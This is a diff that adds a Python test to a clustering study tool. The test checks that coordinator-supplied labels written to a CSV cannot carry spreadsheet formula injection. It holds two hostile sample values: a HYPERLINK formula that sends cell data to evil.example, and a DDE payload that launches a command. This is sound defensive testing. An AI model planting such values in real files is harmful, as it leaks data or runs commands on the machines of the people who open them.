@@ -198,3 +198,17 @@ def test_a_coordinator_cannot_change_the_release_plan_mid_study(paths: dict[str,
         longer["apec"].answer(ClusteringRequest(Step.LLOYD, 2, centres), book)
     assert refused.value.rule == "dp.plan_changed"
     assert longer["apec"].gate.reserved == []  # type: ignore[attr-defined]
+
+
+def test_type_labels_from_the_coordinator_cannot_inject_formulas_into_the_holders_file(
+    paths: dict[str, Path], tmp_path: Path
+) -> None:
+    """The labelling file is opened by counselors in a spreadsheet: a label is the coordinator's text."""
+    sites, _ = sites_from_files({"apec": paths["apec"]}, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
+    site = sites["apec"]
+    site.labels_path = tmp_path / "types.csv"
+    centres = site.x[:2]
+    evil = ('=HYPERLINK("http://evil.example/?"&A2,"Voir")', "+cmd|' /C calc'!A0")
+    site.answer(ClusteringRequest(Step.SKILLS, centres=centres, labels=evil), set())
+    labels = pd.read_csv(site.labels_path, dtype=str)["type_label"]
+    assert not labels.str.match(r"^[=+\-@\t\r]").any()
